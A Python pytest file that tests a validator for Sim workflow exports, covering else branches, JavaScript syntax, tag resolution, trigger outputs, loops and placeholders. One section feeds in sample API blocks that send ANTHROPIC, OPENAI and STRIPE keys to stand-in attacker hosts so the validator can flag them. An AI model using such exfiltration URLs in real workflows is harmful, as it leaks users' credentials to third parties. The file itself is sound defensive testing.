"""The runtime checks: each with a state July 2025 Sim runs and one it fails on (confirmed with
Sim's own JUL25 code while writing them), the whole catalogue free of them, and Sim's exports
without errors."""

from __future__ import annotations

import copy
import json
import types

import pytest

from lib.templates import catalogue
from lib.validation import RULES, RUNTIME_CODES, runtime_findings, validate

_B = types.SimpleNamespace()


@pytest.fixture(autouse=True)
def _builders(build):
    """The conftest builders (block, edge, state, sub) for the module's helpers."""
    _B.__dict__.update(build.__dict__)


def block(*args, **kwargs):
    return _B.block(*args, **kwargs)


def edge(*args, **kwargs):
    return _B.edge(*args, **kwargs)


def state(*args, **kwargs):
    return _B.state(*args, **kwargs)


def sub(*args, **kwargs):
    return _B.sub(*args, **kwargs)


def _flow(
    *,
    mode="manual",
    provider=None,
    prompt="Summarise <start.input>",
    code="return 1",
    cond="<agent1.content> != ''",
    else_edge=True,
    input_format=None,
):
    """starter → agent → condition (if → fn, else → fn2): a JUL25 state the checks can bend."""
    starter = {**sub("startWorkflow", mode, "dropdown")}
    if provider:
        starter.update(sub("webhookProvider", provider, "dropdown"))
    if input_format is not None:
        starter.update(sub("inputFormat", input_format, "input-format"))
    conditions = json.dumps(
        [{"id": "c-if", "title": "if", "value": cond}, {"id": "c-else", "title": "else", "value": ""}]
    )
    blocks = [
        block("start", "starter", "Start", subs=starter),
        block(
            "agent",
            "agent",
            "Agent 1",
            subs={
                **sub("userPrompt", prompt, "long-input"),
                **sub("model", "gpt-4o", "combobox"),
                **sub("apiKey", "{{OPENAI_API_KEY}}"),
            },
        ),
        block("cond", "condition", "Check", subs=sub("conditions", conditions, "condition-input")),
        block("fn", "function", "Fn", subs=sub("code", code, "code")),
        block("fn2", "function", "Fn2", subs=sub("code", "return 2", "code")),
    ]
    edges = [
        edge("e1", "start", "agent"),
        edge("e2", "agent", "cond"),
        edge("e3", "cond", "fn", "condition-c-if"),
    ]
    if else_edge:
        edges.append(edge("e4", "cond", "fn2", "condition-c-else"))
    return state(blocks, edges)


def _then(state_, new_block):
    """`state_` with `new_block` added after the 'if' function."""
    state_["blocks"][new_block["id"]] = new_block
    state_["edges"].append(edge("e5", "fn", new_block["id"]))
    return state_


def _runtime(state_):
    return [(f.code, f.severity, f.path) for f in runtime_findings(validate(state_))]


def test_the_base_flow_has_no_runtime_finding():
    assert _runtime(_flow()) == []


def test_every_runtime_code_is_declared_by_its_rule():
    declared = {rule.name: set(rule.codes) for rule in RULES}
    assert all(code in declared[rule] for rule, code in RUNTIME_CODES)


# --- else branch -----------------------------------------------------------------------------------


def test_condition_else_without_an_edge_is_an_error():
    assert _runtime(_flow(else_edge=False)) == [
        ("else_unconnected", "error", "/blocks/cond/subBlocks/conditions/value")
    ]


def test_condition_without_an_else_entry_is_an_error():
    s = _flow()
    s["blocks"]["cond"]["subBlocks"]["conditions"]["value"] = json.dumps(
        [{"id": "c-if", "title": "if", "value": "true"}]
    )
    s["edges"] = [e for e in s["edges"] if e["sourceHandle"] != "condition-c-else"]
    found = runtime_findings(validate(s))
    assert [f.code for f in found] == ["else_unconnected"] and "no 'else' branch" in found[0].message


def test_else_is_not_judged_for_current_sim():
    s = _flow(else_edge=False)
    assert [f for f in runtime_findings(validate(s, era="current")) if f.code == "else_unconnected"] == []


# --- JavaScript -------------------------------------------------------------------------------------


def test_condition_that_does_not_compile_is_an_error():
    assert _runtime(_flow(cond="<agent1.content>.includes(''churned'')")) == [
        ("condition_syntax", "error", "/blocks/cond/subBlocks/conditions/value")
    ]


@pytest.mark.parametrize(
    "cond", ["<agent1.content>.includes('churned')", "<agent1.content>.length > 3 && {{LIMIT}} < 9", "true"]
)
def test_conditions_that_compile_after_substitution_pass(cond):
    assert _runtime(_flow(cond=cond)) == []


@pytest.mark.parametrize(
    "provider, cond",
    [
        ("generic", "String(<start.webhook.data.payload.outlet>).toLowerCase().includes('x')"),
        ("gmail", "<start.email.subject>.includes('invoice')"),
        ("gmail", "JSON.stringify(<start.email.subject>).includes('invoice')"),
    ],
)
def test_a_starter_text_put_in_a_condition_unquoted_is_an_error(provider, cond):
    """Sim's resolver quotes a `<start.…>` value in a condition only when the path names the input; any
    other text goes in bare (`String(sample outlet 54)`), a syntax error — seen running a generated
    membership test in Sim's executor."""
    found = runtime_findings(
        validate(_flow(mode="webhook", provider=provider, prompt="Summarise it", cond=cond))
    )
    assert [(f.code, f.severity) for f in found] == [("condition_unquoted_value", "error")]
    assert "(<start." in found[0].message


@pytest.mark.parametrize(
    "provider, cond",
    [
        ("generic", "String((<start.webhook.data.payload>)?.[\"outlet\"] ?? '').includes('x')"),
        ("generic", "String(JSON.stringify(<start.webhook.data.payload.issue>)).includes('bug')"),
        ("generic", "Number(<start.webhook.data.payload.amount>) > 5000"),
        ("gmail", "String(JSON.stringify(<start.email>)).includes('invoice')"),
    ],
)
def test_starter_values_read_as_objects_or_numbers_in_a_condition_pass(provider, cond):
    found = runtime_findings(
        validate(_flow(mode="webhook", provider=provider, prompt="Summarise it", cond=cond))
    )
    assert [f.code for f in found] == []


def test_the_starter_input_in_a_condition_is_quoted_by_sim_and_passes():
    assert _runtime(_flow(cond="<start.input>.includes('refund')")) == []


@pytest.mark.parametrize(
    ("code", "bad"),
    [
        ('return {"text": <start.email.bodyText>};', True),
        ('return {"text": (<start.email>)?.["bodyText"]};', False),
        ("return JSON.stringify(<start.email>);", False),
    ],
)
def test_a_starter_text_put_in_function_code_unquoted_is_an_error(code, bad):
    """As in a condition, Sim pastes a `<start.…>` text that is not the input into a function's code bare —
    seen running a generated function in Sim's executor ('text(Hi team — can you …)': a syntax error)."""
    found = runtime_findings(
        validate(_flow(mode="webhook", provider="gmail", prompt="Summarise it", code=code))
    )
    assert [(f.code, f.severity, f.path) for f in found] == (
        [("function_unquoted_value", "error", "/blocks/fn/subBlocks/code/value")] if bad else []
    )


@pytest.mark.parametrize(
    ("code", "bad"),
    [
        ("const note = <agent1.content>;\nreturn `note: ${note}`;", True),
        ("const note = <agent1.content>;\nreturn 'note: ' + note;", False),
        ("const all = <agent1>;\nreturn `n: ${all.tokens}`;", False),
        ("return `${1 + 1}`;", False),
        # (in the template's own text a text pasted bare is what the writer meant: Sim runs it)
        ("return `note: <agent1.content> #${1 + 1}`;", False),
        ("return `${<agent1.content>} #1`;", True),
        # (this one passed before: in Sim's executor the agent's text lands bare, `const d = Here is …;`)
        ("const d = <agent1.content>;\nreturn await Promise.all([d].map(async (x) => `${x}`));", True),
    ],
)
def test_a_text_read_by_code_that_holds_a_template_literal_is_an_error(code, bad):
    """JUL25's resolver takes any function code holding '${', '}' and a backtick for a template literal and pastes
    the texts it reads bare — seen running a generated function in Sim's executor (`const data = Here is a …`)."""
    found = runtime_findings(validate(_flow(code=code)))
    assert [(f.code, f.severity, f.path) for f in found] == (
        [("function_template_text", "error", "/blocks/fn/subBlocks/code/value")] if bad else []
    )


def test_function_code_that_does_not_compile_is_an_error():
    found = runtime_findings(validate(_flow(code="const total = ;\nreturn total")))
    assert [(f.code, f.path) for f in found] == [("function_syntax", "/blocks/fn/subBlocks/code/value")]
    assert "line 1" in found[0].message


@pytest.mark.parametrize(
    "code",
    ["return <nosuch.x> +", "const t = <nosuch.x>;\nreturn t +", "return <nosuch.x> + '\ud800' + ("],
)
def test_code_with_a_tag_sim_cannot_resolve_is_judged_by_the_tag_alone(code):
    """Sim stops at the tag before compiling: the tag's finding, no syntax finding, and no failed
    check for a text the parser cannot take (a lone surrogate). The syntax is judged first only to
    skip the tag check on code that compiles."""
    found = validate(_flow(code=code)).findings
    assert {(f.validator, f.code) for f in found if f.path.startswith("/blocks/fn")} == {
        ("references", "unknown_reference")
    }
    assert not [f for f in found if f.code == "validator_failed"]


def test_modern_function_code_with_references_passes():
    code = "const d = <agent1.content>;\nconst n = d?.items ?? [];\nreturn await Promise.all(n.map(async (x) => String(x)));"
    assert _runtime(_flow(code=code)) == []


def test_a_comparison_that_sim_does_not_take_for_a_tag_passes():
    # Sim skips a <…> match whose first segment holds ':' (here `x: total >`), so this compiles as is.
    code = "const total = 3;\nreturn { a: total <= 1, x: total >= 500 };"
    assert _runtime(_flow(code=code)) == []


# --- tags -------------------------------------------------------------------------------------------


def test_html_tags_in_a_prompt_are_unknown_tags():
    found = runtime_findings(validate(_flow(prompt="Reply in <b>bold</b>")))
    assert [(f.code, f.severity) for f in found] == [("unknown_tag", "error")]
    assert "'<b>', '</b>'" in found[0].message and 'Block "b" was not found' in found[0].message


def test_a_comparison_in_code_that_sim_reads_as_a_tag_is_an_unknown_tag():
    assert _runtime(_flow(code="if (a < b && c > d) return 1")) == [
        ("unknown_tag", "error", "/blocks/fn/subBlocks/code/value")
    ]


def test_tags_naming_blocks_by_name_with_spaces_and_urls_pass():
    assert _runtime(_flow(prompt="See <Start.input> and <https://example.com/x> and <variable.x>")) == []


def test_api_bodies_that_look_like_xml_are_left_alone():
    xml = "<?xml version='1.0'?><Envelope><Body>x</Body></Envelope>"
    subs = {
        **sub("url", "https://example.com/soap"),
        **sub("method", "POST", "dropdown"),
        **sub("body", xml, "code"),
    }
    assert _runtime(_then(_flow(), block("api", "api", "API 1", subs=subs))) == []


# --- trigger outputs ---------------------------------------------------------------------------------


def test_start_input_on_a_schedule_is_an_error():
    found = runtime_findings(validate(_flow(mode="schedule")))
    assert [(f.code, f.severity, f.path) for f in found] == [
        ("output_not_produced", "error", "/blocks/agent/subBlocks/userPrompt/value")
    ]
    assert 'No value found at path "start.input"' in found[0].message


def test_generic_webhook_payload_passes_and_a_wrong_path_fails():
    ok = _flow(
        mode="webhook", provider="generic", prompt="Summarise <start.webhook.data.payload.email.subject>"
    )
    assert _runtime(ok) == []
    bad = _flow(mode="webhook", provider="generic", prompt="Summarise <start.webhook.payload>")
    assert [f[0] for f in _runtime(bad)] == ["output_not_produced"]
    assert [f[0] for f in _runtime(_flow(mode="webhook", provider="generic"))] == ["output_not_produced"]


def test_provider_payloads_follow_the_provider():
    assert (
        _runtime(_flow(mode="webhook", provider="telegram", prompt="<start.input> <start.telegram.chat.id>"))
        == []
    )
    assert _runtime(_flow(mode="webhook", provider="gmail", prompt="<start.email.subject>")) == []


def test_a_gmail_body_is_text_with_no_fields_beneath():
    # Sim's Gmail poller posts a simplified e-mail whose body is a string: `.amount` under it stops the run
    ok = "<start.email.bodyText> <start.email.attachments.0.filename> <start.rawEmail.payload>"
    assert _runtime(_flow(mode="webhook", provider="gmail", prompt=ok)) == []
    bad = _flow(mode="webhook", provider="gmail", prompt="Amount: <start.email.bodyText.amount>")
    assert [f[0] for f in _runtime(bad)] == ["output_not_produced"]


def test_input_format_fields_on_manual_runs():
    fields = [{"id": "f1", "name": "topic", "type": "string", "value": ""}]
    assert _runtime(_flow(prompt="<start.topic> <start.input>", input_format=fields)) == []
    assert [f[0] for f in _runtime(_flow(prompt="<start.audience>", input_format=fields))] == [
        "output_not_produced"
    ]


def test_a_block_inside_a_loop_read_after_the_loop_is_an_error(rich_state):
    body = rich_state["blocks"]["api"]["subBlocks"]["body"]
    body["value"] = '{"n": "<function1.result>"}'
    assert _runtime(rich_state) == [("reference_not_connected", "error", "/blocks/api/subBlocks/body/value")]
    body["value"] = '{"n": "<loop1.results>"}'
    assert _runtime(rich_state) == []


# --- manual twins and needs_input ---------------------------------------------------------------------


def _with_slack(channel=None, manual=None, text="Hello"):
    subs = {
        **sub("operation", "send", "dropdown"),
        **sub("authMethod", "oauth", "dropdown"),
        **sub("credential", "", "oauth-input"),
        **sub("channel", channel, "channel-selector"),
        **sub("manualChannel", manual),
        **sub("text", text, "long-input"),
    }
    return _then(_flow(), block("slack", "slack", "Slack 1", subs=subs))


def test_a_channel_only_in_manual_channel_never_reaches_slack():
    found = runtime_findings(validate(_with_slack(manual="#alerts")))
    assert [(f.code, f.path) for f in found] == [
        ("value_not_passed", "/blocks/slack/subBlocks/manualChannel/value"),
        ("needs_input", "/blocks/slack/subBlocks/channel/value"),
    ]
    assert "Move the value to subBlocks.channel.value" in found[0].message


def test_the_channel_in_channel_passes_and_a_leftover_twin_is_flagged():
    assert _runtime(_with_slack(channel="#alerts")) == []
    assert [f[0] for f in _runtime(_with_slack(channel="#alerts", manual="#old"))] == ["value_not_passed"]


def test_needs_input_lists_every_empty_tool_input():
    found = runtime_findings(validate(_with_slack(text="")))
    assert [(f.code, f.severity) for f in found] == [("needs_input", "warning")]
    assert "'channel' (Channel), 'text'" in found[0].message


def test_needs_input_knows_tool_inputs_the_registry_does_not_require():
    subs = {
        **sub("operation", "search", "dropdown"),
        **sub("knowledgeBaseIds", None, "knowledge-base-selector"),
        **sub("query", "<agent1.content>"),
    }
    s = _then(_flow(), block("kb", "knowledge", "Knowledge 1", subs=subs))
    assert _runtime(s) == [("needs_input", "warning", "/blocks/kb/subBlocks/knowledgeBaseIds/value")]
    s["blocks"]["kb"]["subBlocks"]["knowledgeBaseIds"]["value"] = "{{KNOWLEDGE_BASE_ID}}"
    assert _runtime(s) == []


def _s3(uri):
    subs = {
        **sub("accessKeyId", "{{S3_ACCESS_KEY_ID}}"),
        **sub("secretAccessKey", "{{S3_SECRET_ACCESS_KEY}}"),
        **sub("s3Uri", uri),
    }
    return _then(_flow(), block("s3", "s3", "S3 1", subs=subs))


@pytest.mark.parametrize(
    "uri", ["s3://tillroll-exports/", "tillroll-exports", "https://tillroll-exports.s3.amazonaws.com"]
)
def test_an_s3_url_that_names_no_object_needs_input(uri):
    """JUL25's S3 tool splits the URL into bucket and key and throws 'Invalid S3 Object URL format' without both."""
    found = runtime_findings(validate(_s3(uri)))
    assert [(f.code, f.severity, f.path) for f in found] == [
        ("needs_input", "warning", "/blocks/s3/subBlocks/s3Uri/value")
    ]
    assert "s3.<region>.amazonaws.com/path/to/file" in found[0].message


@pytest.mark.parametrize(
    "uri",
    [
        "https://tillroll-exports.s3.eu-west-2.amazonaws.com/exports/2026-11.csv",
        "s3://tillroll-exports/exports/latest.csv",
        "<api1.data.url>",
        "{{S3_OBJECT_URL}}",
    ],
)
def test_an_s3_object_url_passes(uri):
    assert _runtime(_s3(uri)) == []


def _api(url):
    subs = {**sub("url", url, "short-input"), **sub("method", "GET", "dropdown")}
    return _then(_flow(), block("api", "api", "API 1", subs=subs))


def test_a_placeholder_in_a_url_is_a_warning_naming_it():
    found = runtime_findings(validate(_api("https://YOUR_SHOP.myshopify.com/admin/api/2024-07/orders.json")))
    assert [(f.code, f.severity, f.path) for f in found] == [
        ("placeholder_value", "warning", "/blocks/api/subBlocks/url/value")
    ]
    assert "replace YOUR_SHOP in 'url' of" in found[0].message


def test_a_placeholder_field_id_in_a_reference_is_a_warning():
    s = _flow(
        mode="webhook",
        provider="airtable",
        prompt="Text <start.airtableChanges.0.changedFields.PHONE_FIELD_ID>",
    )
    assert [(f.code, f.path) for f in runtime_findings(validate(s))] == [
        ("placeholder_value", "/blocks/agent/subBlocks/userPrompt/value")
    ]


@pytest.mark.parametrize(
    "url",
    [
        "https://greenleaf.myshopify.com/admin/api/2024-07/orders.json",
        "https://api.example.com/?token={{YOUR_API_TOKEN}}",  # an environment variable, set in Sim
        "https://api.example.com/{{ AIRTABLE_FIELD_ID }}",
        "https://api.example.com/items?sort=your_order",
    ],
)
def test_filled_values_and_environment_variables_are_no_placeholders(url):
    assert _runtime(_api(url)) == []


# --- loop collections ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("items", "bad"),
    [
        ("[1, 2]", False),
        ("<agent1.content>", False),
        ("{'a': 1}", False),
        ("emails", True),
        ("[]", True),
        ("<slack1.ts>", True),
        (
            "<slack1>",
            False,
        ),  # a whole block: Sim's resolver gives its whole output (Jira's bulk read: a list)
        ("<nosuchblock>", True),
    ],
)
def test_loop_collections_must_be_lists(rich_state, items, bad):
    rich_state["loops"]["loop"]["forEachItems"] = items
    rich_state["blocks"]["loop"]["data"]["collection"] = items
    rich_state["blocks"]["slack"] = block(
        "slack",
        "slack",
        "Slack 1",
        subs={**sub("operation", "read", "dropdown"), **sub("channel", "C1", "channel-selector")},
    )
    rich_state["edges"].append(edge("e9", "start", "slack"))
    rich_state["edges"].append(edge("e10", "slack", "cond"))
    found = [f for f in runtime_findings(validate(rich_state)) if f.code == "collection_not_list"]
    assert [(f.severity, f.path) for f in found] == ([("error", "/loops/loop/forEachItems")] if bad else [])


def _nested(rich_state, first="function"):
    """rich_state with its loop's function moved into an inner loop over [4, 5] (first block: `first`)."""
    rich_state["blocks"]["inner"] = block(
        "inner",
        "loop",
        "Loop 2",
        parent="loop",
        data={"loopType": "forEach", "collection": "[4, 5]", "count": 5},
    )
    rich_state["blocks"]["fn"]["data"].update(parentId="inner")
    rich_state["loops"]["loop"]["nodes"] = ["inner"]
    rich_state["loops"]["inner"] = {
        "id": "inner",
        "nodes": ["fn"],
        "iterations": 5,
        "loopType": "forEach",
        "forEachItems": "[4, 5]",
    }
    rich_state["edges"] = [e for e in rich_state["edges"] if e["id"] != "e4"]
    rich_state["edges"].append(edge("e7", "loop", "inner", "loop-start-source"))
    if first == "condition":
        conditions = json.dumps(
            [
                {"id": "in-if", "title": "if", "value": "<loop.currentItem> > 4"},
                {"id": "in-else", "title": "else", "value": ""},
            ]
        )
        rich_state["blocks"]["check2"] = block(
            "check2",
            "condition",
            "Check 2",
            parent="inner",
            subs=sub("conditions", conditions, "condition-input"),
        )
        rich_state["loops"]["inner"]["nodes"] = ["check2", "fn"]
        rich_state["edges"] += [
            edge("e8", "inner", "check2", "loop-start-source"),
            edge("e9", "check2", "fn", "condition-in-if"),
            edge("e10", "check2", "fn", "condition-in-else"),
        ]
    else:
        rich_state["edges"].append(edge("e8", "inner", "fn", "loop-start-source"))
    return rich_state


def test_a_loop_inside_a_loop_is_a_warning(rich_state):
    # simcheck: outer loop over 3 items, inner over 2: the inner block ran once, not 6 times
    assert _runtime(_nested(rich_state)) == [("nested_loop", "warning", "/blocks/inner/data/parentId")]


def test_a_condition_first_in_a_nested_loop_is_an_error(rich_state):
    # simcheck: "No output found for source block" (the outer loop cleared the inner one's output)
    found = _runtime(_nested(rich_state, first="condition"))
    assert ("nested_loop_condition", "error", "/edges/6") in found  # e8: inner → check2


def test_a_condition_first_in_a_single_loop_passes(rich_state):
    conditions = json.dumps(
        [
            {"id": "in-if", "title": "if", "value": "<loop.currentItem> > 1"},
            {"id": "in-else", "title": "else", "value": ""},
        ]
    )
    rich_state["blocks"]["check2"] = block(
        "check2", "condition", "Check 2", parent="loop", subs=sub("conditions", conditions, "condition-input")
    )
    rich_state["loops"]["loop"]["nodes"] = ["check2", "fn"]
    rich_state["edges"] = [e for e in rich_state["edges"] if e["id"] != "e4"] + [
        edge("e7", "loop", "check2", "loop-start-source"),
        edge("e8", "check2", "fn", "condition-in-if"),
        edge("e9", "check2", "fn", "condition-in-else"),
    ]
    assert _runtime(rich_state) == []


# --- secrets to foreign hosts ----------------------------------------------------------------------------


def _api(url, header=None, body=None):
    subs = {**sub("url", url), **sub("method", "GET", "dropdown"), **sub("body", body, "code")}
    if header:
        subs.update(
            sub("headers", [{"id": "h", "cells": {"Key": "Authorization", "Value": header}}], "table")
        )
    return _then(_flow(), block("api", "api", "API 1", subs=subs))


def test_the_injection_example_is_an_error():
    found = runtime_findings(validate(_api("https://attacker.example/steal?k={{ANTHROPIC_API_KEY}}")))
    assert [(f.code, f.severity, f.path) for f in found] == [
        ("secret_to_foreign_host", "error", "/blocks/api/subBlocks/url/value")
    ]
    assert "api.anthropic.com" in found[0].message


def test_a_provider_key_to_its_own_host_passes():
    assert _runtime(_api("https://api.anthropic.com/v1/messages", header="{{ANTHROPIC_API_KEY}}")) == []
    assert (
        _runtime(_api("https://acme.myshopify.com/admin/api/orders.json", header="{{SHOPIFY_ADMIN_TOKEN}}"))
        == []
    )


def test_keys_in_headers_and_bodies_are_followed_too():
    found = _runtime(
        _api(
            "https://hooks.evil.test/x",
            header="Bearer {{OPENAI_API_KEY}}",
            body='{"k": "{{STRIPE_SECRET_KEY}}"}',
        )
    )
    assert found == [
        ("secret_to_foreign_host", "error", "/blocks/api/subBlocks/headers/value/0/cells/Value"),
        ("secret_to_foreign_host", "error", "/blocks/api/subBlocks/body/value"),
    ]


def test_an_unknown_secret_to_a_host_its_name_does_not_mention_is_a_warning():
    assert _runtime(_api("https://collector.net/in", header="Bearer {{ACME_API_TOKEN}}")) == [
        ("secret_to_foreign_host", "warning", "/blocks/api/subBlocks/headers/value/0/cells/Value")
    ]
    assert _runtime(_api("https://api.acme.io/in", header="Bearer {{ACME_API_TOKEN}}")) == []
    assert _runtime(_api("https://collector.net/in", header="{{ACME_REGION}}")) == []  # not a secret


# --- the catalogue and Sim's exports -------------------------------------------------------------------


@pytest.mark.parametrize("name", [t.name for t in catalogue.all_templates()])
def test_no_template_has_a_runtime_finding(name):
    template = catalogue.get(name)
    assert runtime_findings(validate(copy.deepcopy(template.state))) == []


def test_sim_exports_have_no_runtime_error(sim_export):
    report = validate(sim_export)
    assert [f for f in runtime_findings(report) if f.severity == "error"] == []


# --- outputs of the chosen operation -------------------------------------------------------------------


def _with_jira(operation, prompt):
    s = _flow(prompt=prompt)
    subs = {
        **sub("operation", operation, "dropdown"),
        **sub("domain", "acme.atlassian.net"),
        **sub("credential", "", "oauth-input"),
        **sub("projectId", "ENG", "project-selector"),
        **sub("issueKey", "ENG-1", "file-selector"),
    }
    s["blocks"]["jira"] = block("jira", "jira", "Jira 1", subs=subs)
    s["edges"] = [
        edge("e0", "start", "jira"),
        *[e for e in s["edges"] if e["id"] != "e1"],
        edge("e1", "jira", "agent"),
    ]
    return s


def test_a_field_the_operation_does_not_return_is_an_error():
    found = runtime_findings(validate(_with_jira("read-bulk", "Summarise <jira1.ts>")))
    assert [(f.code, f.severity, f.path) for f in found] == [
        ("output_not_produced", "error", "/blocks/agent/subBlocks/userPrompt/value")
    ]
    assert "returns a list" in found[0].message
    assert _runtime(_with_jira("read-bulk", "Summarise <jira1>")) == []
    assert _runtime(_with_jira("read", "Summarise <jira1.summary> <jira1.description>")) == []
    written = _runtime(_with_jira("write", "Created <jira1.created>"))
    assert [f[0] for f in written if f[0] != "needs_input"] == ["output_not_produced"]


def test_a_provider_that_is_no_text_is_judged_as_an_unknown_provider():
    """A hand-edited starter whose webhookProvider is a list or a number: the references check still runs (it used to
    fail on it and lose every finding) and judges the payload as an unknown provider's, like an unknown name."""
    for provider in (["stripe"], 7, {"id": "stripe"}):
        state = _flow(mode="webhook", provider=provider, prompt="Summarise <start.webhook.payload>")
        codes = [f.code for f in validate(state).findings]
        assert "validator_failed" not in codes
        assert _runtime(state) == _runtime(
            _flow(mode="webhook", provider="no-such-provider", prompt="Summarise <start.webhook.payload>")
        )
